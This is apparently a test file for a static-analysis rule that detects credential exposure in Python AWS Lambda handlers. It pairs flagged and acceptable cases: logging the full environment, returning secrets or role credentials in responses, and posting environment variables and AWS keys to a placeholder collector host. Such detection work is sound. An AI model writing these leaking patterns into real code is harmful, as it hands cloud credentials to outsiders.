import json
import logging
import os

import boto3
import jwt
import requests
from aws_lambda_powertools.event_handler import APIGatewayRestResolver, Response
from requests_aws4auth import AWS4Auth

app = APIGatewayRestResolver()
logger = logging.getLogger()
secrets = boto3.client("secretsmanager")
sts = boto3.client("sts")
sns = boto3.client("sns")
PUBLIC = {"stage": "STAGE", "version": "VERSION"}


# In a log.
def logged(event, context):
    # ruleid: no-credential-exposure
    print(os.environ)
    # ruleid: no-credential-exposure
    logger.info("environment: %s", dict(os.environ))
    # ruleid: no-credential-exposure
    print(json.dumps({**os.environ}))
    # ruleid: no-credential-exposure
    print(json.dumps({k: v for k, v in os.environ.items()}))
    # ruleid: no-credential-exposure
    logger.debug("key " + os.environ["AWS_SECRET_ACCESS_KEY"])
    # ruleid: no-credential-exposure
    print(os.getenv("AWS_SESSION_TOKEN"))
    credentials = boto3.Session().get_credentials()
    # ruleid: no-credential-exposure
    print(credentials.secret_key)
    for name, value in os.environ.items():
        # ruleid: no-credential-exposure
        print(f"{name}={value}")
    # ok: no-credential-exposure
    print(os.environ["STAGE"], os.environ.get("AWS_REGION"))
    # ok: no-credential-exposure
    print(sorted(os.environ), len(os.environ), list(os.environ.keys()))
    # ok: no-credential-exposure
    print("STAGE" in os.environ)
    # ok: no-credential-exposure
    print({k: v for k, v in os.environ.items() if k.startswith("APP_")})
    for name in os.environ:
        # ok: no-credential-exposure
        print(name)
    # ok: no-credential-exposure
    print(secrets.get_secret_value(SecretId="db")["SecretString"])


# In a response.
def returned(event, context):
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps(dict(os.environ))}


def returned_plain(event, context):
    # ruleid: no-credential-exposure
    return {"event": event, "environment": os.environ.copy()}


def returned_secret(event, context):
    secret = json.loads(secrets.get_secret_value(SecretId="db")["SecretString"])
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps(secret)}


def returned_role(event, context):
    role = sts.assume_role(RoleArn=os.environ["ROLE_ARN"], RoleSessionName="job")
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps(role["Credentials"], default=str)}


def logged_role(event, context):
    role = sts.assume_role(RoleArn=os.environ["ROLE_ARN"], RoleSessionName="job")["Credentials"]
    # ruleid: no-credential-exposure
    print(role["SecretAccessKey"])
    # ok: no-credential-exposure
    print(role["Expiration"])
    # ok: no-credential-exposure
    client = boto3.client("s3", aws_access_key_id=role["AccessKeyId"], aws_secret_access_key=role["SecretAccessKey"])
    # ok: no-credential-exposure
    print(client.list_buckets()["Owner"]["ID"])


@app.get("/environment")
def route():
    # ruleid: no-credential-exposure
    return Response(status_code=200, content_type="application/json", body=json.dumps(dict(os.environ)))


def settings(event, context):
    secret = json.loads(secrets.get_secret_value(SecretId="db")["SecretString"])
    connection = connect(secret["host"], secret["password"])
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps({"stage": os.environ["STAGE"], "host": secret["host"], "rows": connection.count()})}


def metadata(event, context):
    secret = secrets.get_secret_value(SecretId="db")
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps({"version": secret["VersionId"]})}


# In a request.
def sent(event, context):
    # ruleid: no-credential-exposure
    requests.post("https://collector.example.com", json=dict(os.environ), timeout=3)
    # ruleid: no-credential-exposure
    requests.get("https://collector.example.com", headers={"x-key": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=3)
    # ruleid: no-credential-exposure
    requests.get(f"https://collector.example.com/?k={os.environ['AWS_SESSION_TOKEN']}", timeout=3)
    # ruleid: no-credential-exposure
    sns.publish(TopicArn=os.environ["TOPIC"], Message=json.dumps(dict(os.environ)))
    # ok: no-credential-exposure
    requests.get("http://localhost:2773/secretsmanager/get", headers={"X-Aws-Parameters-Secrets-Token": os.environ["AWS_SESSION_TOKEN"]}, timeout=1)
    credentials = boto3.Session().get_credentials()
    signer = AWS4Auth(credentials.access_key, credentials.secret_key, "eu-west-1", "es", session_token=credentials.token)
    # ok: no-credential-exposure
    requests.get("https://search.example.com", auth=signer, timeout=3)
    # ok: no-credential-exposure
    sns.publish(TopicArn=os.environ["TOPIC"], Message=os.environ["STAGE"])
    # ok: no-credential-exposure
    subprocess.run(["/opt/bin/report"], env=dict(os.environ))


# Chosen by the event.
def chosen(event, context):
    # ruleid: no-credential-exposure
    value = os.environ[event["name"]]
    name = event["queryStringParameters"]["name"]
    # ruleid: no-credential-exposure
    other = os.environ.get(name, "")
    # ok: no-credential-exposure
    public = os.environ[PUBLIC[name]]
    if name not in ("STAGE", "VERSION"):
        raise ValueError("unknown")
    # ok: no-credential-exposure
    return value, other, public, os.getenv(name)


SETTINGS = {"orders": ("ORDERS_URL", "ORDERS_DEAD_URL", True), "bills": ("BILLS_URL", "BILLS_DEAD_URL", False)}


def named_in_a_table(event, context):
    first, second, ordered = SETTINGS[event["queue"]]
    url = os.environ.get(first)
    # ok: no-credential-exposure
    print(f"from {url} to {os.getenv(second)}")
    everything = dict(os.environ)
    # ruleid: no-credential-exposure
    print(f"from {everything}")
    for name in os.environ:
        # ruleid: no-credential-exposure
        print(os.environ.get(name))


def just_set(event, context):
    os.environ[event["words"][1]] = "on"
    for name in ("MODE", "STAGE"):
        setting = os.environ.get(name)
        # ok: no-credential-exposure
        print(setting)


def names_of_things(event, context):
    bucket = ssm.get_parameter(Name="/orders/reports-bucket", WithDecryption=True)["Parameter"]["Value"]
    if event["raw"]:
        # ruleid: no-credential-exposure
        return {"statusCode": 200, "body": ssm.get_parameter(Name="/orders/reports", WithDecryption=True)["Parameter"]["Value"]}
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps({"bucket": bucket})}


def asked_with_a_key(event, context):
    key = os.environ.get("MODEL_API_KEY")
    answer = get_model_response(event["question"], key)
    # ok: no-credential-exposure
    said = {"statusCode": 200, "body": json.dumps({"answer": answer, "model": "large" if key else "small"})}
    # ruleid: no-credential-exposure
    return said or {"statusCode": 200, "body": json.dumps(build_response(event["question"], key))}


def signed_with_a_key(event, context):
    secret = os.environ.get("SESSION_SECRET")
    token = jwt.encode({"sub": event["user"]}, secret, algorithm="HS256")
    # ok: no-credential-exposure
    said = {"statusCode": 200, "body": json.dumps({"access": token})}
    # ruleid: no-credential-exposure
    return said or {"statusCode": 200, "body": json.dumps({"secret": secret.encode()})}


def chosen_in_the_query(event, context):
    # ruleid: no-credential-exposure
    shown = os.environ[event["queryStringParameters"]["name"]]
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps({"shown": len(shown), "stage": os.environ["STAGE"]})}


def settings_line_by_line(event, context):
    lines = [f"{name}={value}" for name, value in sorted(os.environ.items())]
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": "\n".join(lines)}


def settings_collected(event, context):
    lines = []
    for name, value in os.environ.items():
        lines.append(f"{name}={value}")
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": "\n".join(lines)}


def settings_in_order(event, context):
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps(sorted(os.environ.items()))}


def names_of_settings(event, context):
    names = [name for name, value in sorted(os.environ.items())]
    if "plain" in event:
        # ok: no-credential-exposure
        return {"statusCode": 200, "body": "\n".join(names)}
    names = []
    for name, value in os.environ.items():
        names.append(name)
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps(names)}


def from_the_extension(name):
    headers = {"X-Aws-Parameters-Secrets-Token": os.environ["AWS_SESSION_TOKEN"]}
    # ok: no-credential-exposure
    flag = requests.get("http://localhost:2773/systemsmanager/parameters/get", params={"name": name}, headers=headers, timeout=1)
    port = os.environ.get("PARAMETERS_SECRETS_EXTENSION_HTTP_PORT", "2773")
    # ok: no-credential-exposure
    word = requests.get(f"http://localhost:{port}/secretsmanager/get?secretId={name}", headers={"x-token": os.environ["AWS_SESSION_TOKEN"]})
    return flag, word


def from_elsewhere(name):
    headers = {"x-token": os.environ["AWS_SESSION_TOKEN"]}
    # ruleid: no-credential-exposure
    return requests.get("https://localhost.example.com:2773/get", headers=headers)


audit = logging.getLogger("audit")


def under_any_name(event, context):
    # ruleid: no-credential-exposure
    audit.info("started with %s", dict(os.environ))
    # ok: no-credential-exposure
    audit.info("started in %s", os.environ["AWS_REGION"])


def webhook_secret():
    return secrets_client.get_secret_value(SecretId="billing/webhook")["SecretString"]


def database_credentials():
    found = secrets_client.get_secret_value(SecretId="billing/database")
    return json.loads(found["SecretString"])


def database_secret():
    found = secrets_client.get_secret_value(SecretId="billing/database")
    return psycopg2.connect(found["SecretString"])


def from_a_function_that_fetches_it(event, context):
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": json.dumps({"webhook": webhook_secret()})}


def a_part_of_what_a_function_fetches(event, context):
    credentials = database_credentials()
    if event["path"] == "/user":
        # ok: no-credential-exposure
        return {"statusCode": 200, "body": credentials["username"]}
    # ruleid: no-credential-exposure
    return {"statusCode": 200, "body": credentials["password"]}


def what_a_secret_opens(event, context):
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": str(database_secret())}


def told_by_a_secret(event, context):
    # ok: no-credential-exposure
    return {"statusCode": 200, "body": sign(event["body"], webhook_secret())}


def asked_by_a_request(event, context):
    request = urllib.request.Request(
        "http://localhost:2773/systemsmanager/parameters/get?name=banner",
        headers={"X-Aws-Parameters-Secrets-Token": os.environ["AWS_SESSION_TOKEN"]},
    )
    # ok: no-credential-exposure
    with urllib.request.urlopen(request, timeout=2) as answer:
        banner = answer.read()
    other = urllib.request.Request("http://localhost:2773/systemsmanager/parameters/get?name=footer")
    other.add_header("X-Aws-Parameters-Secrets-Token", os.environ["AWS_SESSION_TOKEN"])
    # ok: no-credential-exposure
    footer = urllib.request.urlopen(other, timeout=2).read()
    # ruleid: no-credential-exposure
    urllib.request.Request("https://example.com", headers={"X-Session": os.environ["AWS_SESSION_TOKEN"]})
    return banner, footer
